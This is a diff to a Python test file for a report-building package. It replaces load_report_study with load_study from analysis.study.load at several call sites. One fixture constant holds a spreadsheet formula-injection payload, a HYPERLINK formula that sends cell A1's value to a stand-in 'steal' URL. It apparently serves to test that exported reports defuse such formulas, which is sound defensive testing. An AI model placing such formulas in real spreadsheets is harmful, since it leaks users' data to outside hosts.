@@ -13,9 +13,10 @@ import pytest
 from conftest import HtmlReferences
 
 from analysis.report import registry
-from analysis.report.build import build_report, load_report_study, publishable
+from analysis.report.build import build_report, publishable
 from analysis.report.registry import ReportTable
 from analysis.report.writers import HEADER_ROW
+from analysis.study.load import load_study
 from analysis.study.schema import TABLES, conform
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/steal?x="&A1,"詳細")'
@@ -396,7 +397,7 @@ def test_an_interrupted_build_leaves_the_previous_report(own_builders, years, tm
 
 def test_derived_tables_are_loaded_beside_the_tidy_ones(years):
     _, current = years
-    study = load_report_study(current)
+    study = load_study(current)
     assert set(TABLES) <= set(study.tables)
     assert len(study.tables["maturity"]) == 10
     assert "issues" not in study.tables and len(study.issues) == 1
@@ -480,7 +481,7 @@ def test_every_table_with_counts_declares_a_layout(tmp_path):
 
     write_sample(tmp_path / "raw")
     ingest(tmp_path / "raw" / "2021", out_dir=tmp_path / "p", fiscal_year=2021, progress=False)
-    study = load_report_study(tmp_path / "p")
+    study = load_study(tmp_path / "p")
     ctx = ReportContext(lang="en", publish=True, options={"suppression_k": 5})
     items, failures = collect_items(study, ctx)
     assert not failures, failures
